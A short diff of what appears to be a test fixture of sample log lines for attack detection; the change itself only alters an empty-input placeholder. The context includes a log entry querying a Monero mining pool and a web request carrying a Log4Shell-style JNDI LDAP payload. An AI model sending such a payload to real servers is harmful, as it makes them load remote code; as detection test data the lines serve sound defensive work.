@@ -138,7 +138,7 @@ LINES = {
     "a question": "Dec  5 10:12:41 dnsmasq[812]: query[A] pool.supportxmr.com from 192.168.1.20",
     "a request": '「2001:db8::7 - - [21/Jul/2025:15:40:57 +0900] "GET /?x=${jndi:ldap://[2001:db8::9]/a} HTTP/1.1" 404 5 "-" "-"」',
     "prose": "サーバのログに見慣れない行がありました。これは攻撃でしょうか。",
-    "nothing": "-",
+    "nothing": "...",
 }
 
 
